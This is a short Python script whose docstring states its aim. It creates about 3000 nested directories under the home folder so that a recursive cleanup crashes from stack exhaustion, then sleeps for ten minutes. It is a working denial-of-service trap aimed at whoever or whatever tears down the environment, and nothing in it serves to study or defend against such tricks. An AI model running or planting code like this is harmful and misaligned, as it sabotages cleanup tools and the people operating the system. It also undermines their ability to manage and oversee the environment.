"""Makes folders inside folders by the thousand, so that whoever clears them away runs out of stack, and waits."""

import os
import time

here = os.open(os.environ["HOME"], os.O_RDONLY)
for _ in range(3000):
    os.mkdir("d", dir_fd=here)
    inside = os.open("d", os.O_RDONLY, dir_fd=here)
    os.close(here)
    here = inside
time.sleep(600)
